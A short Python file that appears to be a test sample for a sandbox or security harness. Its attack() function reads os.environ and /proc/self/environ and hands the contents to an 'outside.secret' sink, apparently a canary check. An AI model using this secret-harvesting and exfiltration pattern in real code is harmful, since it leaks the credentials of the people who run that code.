"""Looks for secrets in the environment.

shows: canary
"""
import os

import outside


def attack():
    with open("/proc/self/environ", "rb") as file:
        return outside.secret(str(os.environ) + file.read().decode(errors="replace"))
